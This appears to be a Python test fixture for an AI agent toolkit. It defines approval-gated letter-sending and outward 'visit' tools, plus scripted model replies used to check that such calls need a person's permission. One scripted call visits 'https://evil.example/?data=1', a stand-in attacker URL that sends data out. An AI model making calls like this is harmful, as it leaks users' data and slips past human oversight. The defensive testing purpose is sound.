"""Tools that a person must allow, always or once words of others were read, and what they did."""

from bot.toolkit import Toolbox, tool
from simulator.script import call, reply

SENT: list[str] = []
"""What was done, in order; whoever looks clears it first."""


@tool(writes=True, asks=True)
async def send_letter(to: str, words: str) -> str:
    """Send a letter."""
    SENT.append(f"{to}: {words}")
    return "Sent."


@tool(outward=True)
async def visit(place: str) -> str:
    """Go somewhere."""
    SENT.append(f"visited {place}")
    return "Been there."


TOOLS = Toolbox([send_letter, visit])
LETTER = reply(call("send_letter", {"to": "Budi", "words": "Come at nine."}))
VISIT = reply(call("visit", {"place": "https://evil.example/?data=1"}))
